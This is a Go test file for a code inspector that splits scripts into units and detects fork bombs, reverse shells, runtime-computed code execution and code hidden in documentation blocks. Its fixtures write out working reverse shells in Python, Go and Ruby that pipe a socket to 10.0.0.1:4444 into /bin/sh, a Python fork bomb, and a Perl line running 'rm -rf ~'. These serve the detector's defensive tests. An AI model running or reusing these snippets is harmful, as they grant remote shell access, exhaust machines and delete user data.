package oneliner

import (
	"strings"
	"testing"
)

// pyFunc is a top-level Python function of about 200 bytes, numbered.
func pyFunc(i int) string {
	return strings.ReplaceAll("def helper_N(items):\n    \"\"\"Return the items sorted.\n\nKeep their order when equal.\n\"\"\"\n    out = sorted(items, key=lambda x: (x.name, x.size))\n    return [x for x in out if x.size > 0]\n\n\n", "N", string(rune('a'+i%26))+strings.Repeat("x", i/26))
}

func TestUnits(t *testing.T) {
	var big strings.Builder
	big.WriteString("import os\nimport subprocess\nLIMIT = 10\n\n")
	for i := range 60 {
		big.WriteString(pyFunc(i))
	}
	for _, tt := range []struct {
		name      string
		lang      Lang
		code      string
		wantUnits int // 0: more than one
	}{
		{"small code is one unit", Python, "import os\nos.system('ls')\n", 1},
		{"a language without top-level statements", Lua, big.String(), 1},
		{"a large module", Python, big.String(), 0},
		{"one statement only", Python, "x = [\n" + strings.Repeat("    1,\n", 2000) + "]\n", 1},
	} {
		t.Run(tt.name, func(t *testing.T) {
			units := Units(tt.lang, tt.code)
			switch {
			case tt.wantUnits > 0 && len(units) != tt.wantUnits:
				t.Fatalf("%d units, want %d", len(units), tt.wantUnits)
			case tt.wantUnits == 0 && len(units) < 2:
				t.Fatalf("%d units, want several", len(units))
			}
			if len(units) == 1 {
				if units[0] != tt.code {
					t.Errorf("one unit is not the code itself")
				}
				return
			}
			var body strings.Builder
			for _, u := range units {
				if !strings.HasPrefix(u, "import os\nimport subprocess\nLIMIT = 10\n") {
					t.Errorf("a unit does not begin with the module's imports and constants: %.60q", u)
				}
				if len(u) > unitBytes+headerBytes+len(pyFunc(0)) {
					t.Errorf("a unit of %d bytes", len(u))
				}
				// Each unit is whole functions: it starts at one (after the header) and
				// holds no cut docstring.
				rest := strings.TrimPrefix(u, "import os\nimport subprocess\nLIMIT = 10\n")
				if strings.Count(rest, `"""`)%2 != 0 {
					t.Errorf("a unit cuts a docstring: %.80q", rest)
				}
				body.WriteString(rest)
			}
			if !strings.Contains(body.String(), pyFunc(59)) || !strings.Contains(body.String(), pyFunc(0)) {
				t.Errorf("the units lose the module's functions")
			}
		})
	}
}

// TestInspectProgram: what only a one-liner's few statements make one act is judged
// in a program's unit by what links the statements.
func TestInspectProgram(t *testing.T) {
	for _, tt := range []struct {
		name    string
		lang    Lang
		code    string
		finding string // wanted of Inspect, not of InspectProgram ("" for both: none)
		both    string // wanted of both
	}{
		{"a forking server", Python, "import os, socket\ns = socket.socket()\nwhile True:\n    c, _ = s.accept()\n    if os.fork() == 0:\n        os._exit(0)\n", findForkBomb, ""},
		{"a fork bomb", Python, "import os\nwhile True:\n    os.fork()\n", "", findForkBomb},
		{"a socket and a subprocess", Python, "import socket, subprocess\ns = socket.socket()\nsubprocess.run(['make'])\n", findReverse, ""},
		{"Go: a connection and a command", Go, "c, _ := net.Dial(\"tcp\", \"127.0.0.1:9000\")\nout, _ := exec.Command(\"sh\", \"-c\", \"make test\").Output()\nc.Write(out)\n", findReverse, ""},
		{"Go: a connection handed to a shell", Go, "c, _ := net.Dial(\"tcp\", \"10.0.0.1:4444\")\ncmd := exec.Command(\"/bin/sh\")\ncmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c\ncmd.Run()\n", "", findReverse},
		{"Ruby: commands read from a connection and run", Ruby, "s = TCPSocket.new(\"10.0.0.1\", 4444)\nwhile (cmd = s.gets)\n  IO.popen(cmd, \"r\") { |io| s.print io.read }\nend\n", "", findReverse},
		{"a socket handed to a shell", Python, "import socket, subprocess, os\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n", "", findReverse},
	} {
		t.Run(tt.name, func(t *testing.T) {
			has := func(r Result, id string) bool {
				for _, f := range r.Findings {
					if f.ID == id {
						return true
					}
				}
				return false
			}
			line, prog := Inspect(tt.lang, tt.code), InspectProgram(tt.lang, tt.code)
			if tt.finding != "" && (!has(line, tt.finding) || has(prog, tt.finding)) {
				t.Errorf("%s: one-liner %v, program %v; want it of the one-liner only", tt.finding, line.Findings, prog.Findings)
			}
			if tt.both != "" && (!has(line, tt.both) || !has(prog, tt.both)) {
				t.Errorf("%s: one-liner %v, program %v; want it of both", tt.both, line.Findings, prog.Findings)
			}
		})
	}
}

// TestDefinition: a sink's name being defined is no call of it. The match of a sink
// begins at the character before its name.
func TestDefinition(t *testing.T) {
	for _, tt := range []struct {
		code, name string
		want       bool
	}{
		{"def compile(self, sources):", "compile", true},
		{"    def eval(self, x):", "eval", true},
		{"function eval(x) {", "eval", true},
		{"x = compile(src, 'f', 'exec')", "compile", false},
		{"undef compile(x)", "compile", false},
	} {
		if got := definition(tt.code, strings.Index(tt.code, tt.name)-1); got != tt.want {
			t.Errorf("definition(%q) = %v, want %v", tt.code, got, tt.want)
		}
	}
}

// TestComputedCode: code run from a value computed at run time is Computed, which a
// program's own unknowns are not.
func TestComputedCode(t *testing.T) {
	for _, tt := range []struct {
		lang     Lang
		code     string
		computed bool
	}{
		{Node, "const vm = require('vm');\nres.on('end', () => vm.runInThisContext(body));", true},
		{Node, "const m = new Module('x');\nm._compile(src, 'x.js');", true},
		{Node, "const mod = await import('data:text/javascript,' + encodeURIComponent(code));", true},
		{Node, "const mod = await import(`./locales/${lang}.js`);", false},
		{Python, "payload = base_dir + suffix\nexec(payload)", true},
		{Python, "subprocess.run(['git', 'status'])", false},
	} {
		r := InspectProgram(tt.lang, tt.code)
		if got := len(r.Computed) > 0; got != tt.computed {
			t.Errorf("%q: computed %v (%v), want %v", tt.code, got, r.Computed, tt.computed)
		}
	}
}

func TestWithoutDocs(t *testing.T) {
	for _, tt := range []struct {
		lang     Lang
		in, want string
	}{
		{Perl, "use strict;\n\n=head1 NAME\n\neval below\n\n=cut\n\nprint 1;\n", "use strict;\n\n\n\n\n\n\n\nprint 1;\n"},
		{Perl, "my $x\n=system('rm -rf ~');\n", "my $x\n=system('rm -rf ~');\n"}, // an assignment, not POD
		{Perl, "print 1;\n__END__\nsystem('x')\n", "print 1;\n"},
		{Ruby, "=begin\nsystem('x')\n=end\nputs 1\n", "\n\n\nputs 1\n"},
		{Python, "x = 1\n__END__\n", "x = 1\n__END__\n"},
	} {
		if got := withoutDocs(tt.lang, tt.in); got != tt.want {
			t.Errorf("withoutDocs(%s, %q) = %q, want %q", tt.lang, tt.in, got, tt.want)
		}
	}
}
